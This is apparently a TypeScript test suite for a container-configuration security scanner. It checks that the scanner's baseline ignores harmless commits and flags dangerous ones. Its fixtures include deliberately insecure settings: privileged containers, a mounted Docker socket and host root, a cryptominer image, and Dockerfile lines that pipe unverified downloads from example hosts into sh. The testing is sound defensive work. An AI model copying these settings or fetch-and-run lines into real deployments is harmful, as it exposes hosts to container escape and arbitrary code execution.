import assert from 'node:assert/strict';
import { cpSync, mkdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { before, describe, it } from 'node:test';
import { folderOf, plimsoll } from './support/cli.ts';
import { commitAll, gitIn, withoutGit } from './support/git.ts';
import { share } from './support/share.ts';

const files = {
  'shop/compose.yaml': `x-base: &base
  privileged: true
services:
  web:
    image: nginx:1.27.3
    network_mode: host
    cap_add: [SYS_ADMIN]
  db:
    <<: *base
    image: postgres:16
    volumes:
      - /var/run/docker.sock:/var/run/docker.sock
  queue:
    <<: *base
    image: rabbitmq:3.13
`,
  'shop/compose.override.yaml': 'services:\n  web:\n    pid: host\n',
  'shared/base.yaml': 'services:\n  base:\n    image: redis:7\n    privileged: true\n',
  'cache/compose.yaml':
    'services:\n  cache:\n    extends: {file: ../shared/base.yaml, service: base}\n    ports: ["6379:6379"]\n',
  'image/Dockerfile':
    'FROM debian:12 AS build\nRUN curl -k https://a.example/x | sh\nFROM alpine:3.20\nRUN wget --no-check-certificate https://a.example/y\nCMD ["x"]\n',
};

/** A folder that a commit is made in. */
interface Tree {
  edit(path: string, change: (text: string) => string): void;
  write(path: string, text: string): void;
  move(path: string, to: string): void;
  remove(path: string): void;
}

const shop = 'shop/compose.yaml';
const dockerfile = 'image/Dockerfile';

const replaced = (from: string | RegExp, to: string) => (text: string) => {
  const changed = text.replace(from, to);
  assert.notEqual(changed, text, `${from}`);
  return changed;
};

const harmless: Readonly<Record<string, (tree: Tree) => void>> = {
  'a file is renamed': (tree) => tree.move('cache/compose.yaml', 'cache/docker-compose.yml'),
  'a Dockerfile is renamed': (tree) => tree.move(dockerfile, 'image/Dockerfile.prod'),
  'a shared file is renamed': (tree) => {
    tree.move('shared/base.yaml', 'shared/common.yml');
    tree.edit('cache/compose.yaml', replaced('base.yaml', 'common.yml'));
  },
  'a folder is renamed': (tree) => tree.move('shop', 'store'),
  'a folder is moved deeper': (tree) => {
    tree.move('cache', 'stacks/cache');
    tree.edit('stacks/cache/compose.yaml', replaced('../shared', '../../shared'));
  },
  'all folders are moved': (tree) => {
    for (const each of ['shop', 'shared', 'cache', 'image']) tree.move(each, `deploy/${each}`);
  },
  'a folder and a service in it are renamed': (tree) => {
    tree.move('shop', 'store');
    tree.edit('store/compose.yaml', replaced('  web:', '  front:'));
    tree.edit('store/compose.override.yaml', replaced('  web:', '  front:'));
  },
  'a service is renamed': (tree) => {
    tree.edit(shop, replaced('  web:', '  frontend:'));
    tree.edit('shop/compose.override.yaml', replaced('  web:', '  frontend:'));
  },
  'a service that shares a base is renamed': (tree) => tree.edit(shop, replaced('  db:', '  database:')),
  'a service that extends a shared file is renamed': (tree) =>
    tree.edit('cache/compose.yaml', replaced('  cache:', '  redis:')),
  'a service is renamed and gets a newer image': (tree) =>
    tree.edit(shop, (text) => text.replace('  db:', '  database:').replace('postgres:16', 'postgres:17')),
  'a stage is renamed': (tree) => tree.edit(dockerfile, replaced('AS build', 'AS compile')),
  'a stage gets a name': (tree) => tree.edit(dockerfile, replaced('alpine:3.20', 'alpine:3.20 AS run')),
  'a stage is put in front': (tree) =>
    tree.edit(dockerfile, (text) => `FROM busybox:1.37 AS tools\nUSER 1000\nCOPY x /x\n${text}`),
  'the file is formatted': (tree) =>
    tree.edit(shop, (text) =>
      text.replace(/^( +)/gm, '$1$1').replace('[SYS_ADMIN]', '\n            - "SYS_ADMIN"'),
    ),
  'keys change their order': (tree) =>
    tree.edit(
      shop,
      replaced(
        '    image: nginx:1.27.3\n    network_mode: host\n',
        '    network_mode: host\n    image: nginx:1.27.3\n',
      ),
    ),
  'services change their order': (tree) =>
    tree.edit(shop, (text) => {
      const [head = '', body = ''] = text.split(/(?<=services:\n)/);
      return (
        head +
        body
          .split(/^(?= {2}\w+:$)/m)
          .reverse()
          .join('')
      );
    }),
  'comments are added': (tree) => {
    tree.edit(shop, (text) => text.replace(/^( +)image:/gm, '$1# what it runs\n$1image:'));
    tree.edit(dockerfile, (text) => text.replace(/^RUN/gm, '# why\nRUN'));
  },
  'lines move': (tree) => tree.edit(shop, (text) => `name: shop\n\n\n\n${text}`),
  'lines end with CRLF': (tree) => {
    for (const each of Object.keys(files)) tree.edit(each, (text) => text.replaceAll('\n', '\r\n'));
  },
  'an anchor is written out': (tree) =>
    tree.edit(shop, replaced('    <<: *base\n    image: postgres', '    <<: [*base]\n    image: postgres')),
  'a service is moved into an included file': (tree) => {
    const text = files[shop];
    const at = text.indexOf('  web:');
    const end = text.indexOf('  db:');
    tree.write('shop/web.yaml', `services:\n${text.slice(at, end)}`);
    tree.write(shop, `include: [web.yaml]\n${text.slice(0, at)}${text.slice(end)}`);
    tree.remove('shop/compose.override.yaml');
  },
  'a line is moved to the override file': (tree) => {
    tree.edit(shop, replaced('    network_mode: host\n', ''));
    tree.edit('shop/compose.override.yaml', (text) => `${text}    network_mode: host\n`);
  },
  'a finding is fixed': (tree) => tree.edit(shop, replaced('    cap_add: [SYS_ADMIN]\n', '')),
  'a service is removed': (tree) => tree.edit(shop, (text) => text.slice(0, text.indexOf('  queue:'))),
};

const dangerous: Readonly<Record<string, (tree: Tree) => void>> = {
  'a known service becomes privileged': (tree) =>
    tree.edit(shop, replaced('    network_mode', '    privileged: true\n    network_mode')),
  'a new service shares a known base': (tree) =>
    tree.edit(shop, (text) => `${text}  miner:\n    <<: *base\n    image: xmrig/xmrig:6\n`),
  'a new service shares a known base with the image of another one': (tree) =>
    tree.edit(shop, (text) => `${text}  queue2:\n    <<: *base\n    image: rabbitmq:3.13\n`),
  'a known service joins a known base': (tree) =>
    tree.edit(shop, replaced('  web:\n', '  web:\n    <<: *base\n')),
  'a new project extends a known file': (tree) =>
    tree.write(
      'api/compose.yaml',
      'services:\n  api:\n    extends: {file: ../shared/base.yaml, service: base}\n',
    ),
  'a second service extends a known file': (tree) =>
    tree.edit(
      'cache/compose.yaml',
      (text) => `${text}  more:\n    extends: {file: ../shared/base.yaml, service: base}\n`,
    ),
  'a file is copied': (tree) => tree.write('copy/compose.yaml', files[shop]),
  'a file is moved and copied': (tree) => {
    tree.move(shop, 'a/compose.yaml');
    tree.write('b/compose.yaml', files[shop]);
  },
  'a service is copied': (tree) =>
    tree.edit(shop, (text) => `${text}  web2:\n    image: nginx:1.27.3\n    network_mode: host\n`),
  'a service is renamed and gets one more danger': (tree) =>
    tree.edit(
      shop,
      (text) => `${text.replace('  web:', '  front:').replace('    cap_add', '    ipc: host\n    cap_add')}`,
    ),
  'a folder is renamed and a service in it gets one more danger': (tree) => {
    tree.move('shop', 'store');
    tree.edit('store/compose.yaml', replaced('    cap_add', '    ipc: host\n    cap_add'));
  },
  'a danger moves to another service': (tree) =>
    tree.edit(shop, (text) => {
      const socket = '    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n';
      return `${text.replace(socket, '')}${socket}`;
    }),
  'another service replaces a known one': (tree) =>
    tree.edit(shop, (text) => text.replace('  web:', '  miner:').replace('nginx:1.27.3', 'xmrig/xmrig:6')),
  'a danger moves to the service of another project': (tree) => {
    tree.edit(shop, replaced('    network_mode: host\n', ''));
    tree.edit('cache/compose.yaml', (text) => `${text}    network_mode: host\n`);
  },
  'a known image downloads more without a check': (tree) =>
    tree.edit(dockerfile, replaced('CMD', 'RUN curl -k https://b.example/z | sh\nCMD')),
  'a stage is renamed and downloads more': (tree) =>
    tree.edit(dockerfile, replaced('AS build\n', 'AS other\nRUN curl -k https://b.example/z | sh\n')),
  'a stage is copied': (tree) =>
    tree.edit(dockerfile, (text) => `FROM debian:12 AS first\nRUN curl -k https://a.example/x | sh\n${text}`),
  'another mount is added': (tree) =>
    tree.edit(shop, replaced('    volumes:\n', '    volumes:\n      - /:/host\n')),
  'a known file is gone, and another one has one of its dangers': (tree) => {
    tree.remove('shop/compose.yaml');
    tree.remove('shop/compose.override.yaml');
    tree.write('other/compose.yaml', 'services:\n  web:\n    image: acme/tool:1\n    network_mode: host\n');
  },
};

/** The folder with its baseline, committed. */
const known = folderOf(files);

/** A copy of the folder with a commit on top of it. */
function committed(change: (tree: Tree) => void): string {
  const cwd = folderOf({});
  cpSync(known, cwd, { recursive: true });
  const at = (path: string) => join(cwd, path);
  const write = (path: string, text: string) => {
    mkdirSync(dirname(at(path)), { recursive: true });
    writeFileSync(at(path), text);
  };
  change({
    write,
    edit: (path, text) => write(path, text(readFileSync(at(path), 'utf8'))),
    move(path, to) {
      mkdirSync(dirname(at(to)), { recursive: true });
      renameSync(at(path), at(to));
    },
    remove: (path) => rmSync(at(path)),
  });
  commitAll(cwd, 'second');
  assert.equal(gitIn(cwd, 'status', '--porcelain'), '');
  return cwd;
}

/** What a scan with the default baseline reports, from the lowest severity on. */
function scanned(cwd: string) {
  const { code, out, errors } = plimsoll(['scan', '--format', 'json', '--fail-on', 'low', '--baseline'], {
    cwd,
  });
  assert.equal(errors, '');
  const { findings } = JSON.parse(out) as { findings: { rule: string; file: string; line: number }[] };
  return { code, rules: findings.map(({ rule, file, line }) => `${file}:${line} ${rule}`) };
}

describe('a commit on top of a baseline', { skip: withoutGit }, () => {
  before(() => {
    assert.equal(plimsoll(['baseline', 'write'], { cwd: known }).code, 0);
    commitAll(known, 'first');
    assert.deepEqual(scanned(known), { code: 0, rules: [] });
  });

  for (const [what, change] of share(Object.entries(harmless), 5, 3))
    it(`is silent where ${what}`, () => {
      const cwd = committed(change);
      assert.deepEqual(scanned(cwd), { code: 0, rules: [] });
      // The next baseline has the new names, and hides the same.
      assert.equal(plimsoll(['baseline', 'prune'], { cwd }).code, 0);
      assert.deepEqual(scanned(cwd), { code: 0, rules: [] });
      const shown = plimsoll(['baseline', 'show'], { cwd }).out;
      assert.match(shown, /0 of them are gone\. 0 findings are not in it/);
    });

  for (const [what, change] of share(Object.entries(dangerous), 5, 3))
    it(`fails where ${what}`, () => {
      const cwd = committed(change);
      const { code, rules } = scanned(cwd);
      assert.equal(code, 1, rules.join('\n'));
      // Removing what is gone takes in nothing new.
      plimsoll(['baseline', 'prune'], { cwd });
      assert.deepEqual(scanned(cwd), { code, rules });
      assert.equal(plimsoll(['baseline', 'update'], { cwd }).code, 0);
      assert.deepEqual(scanned(cwd), { code: 0, rules: [] });
    });
});
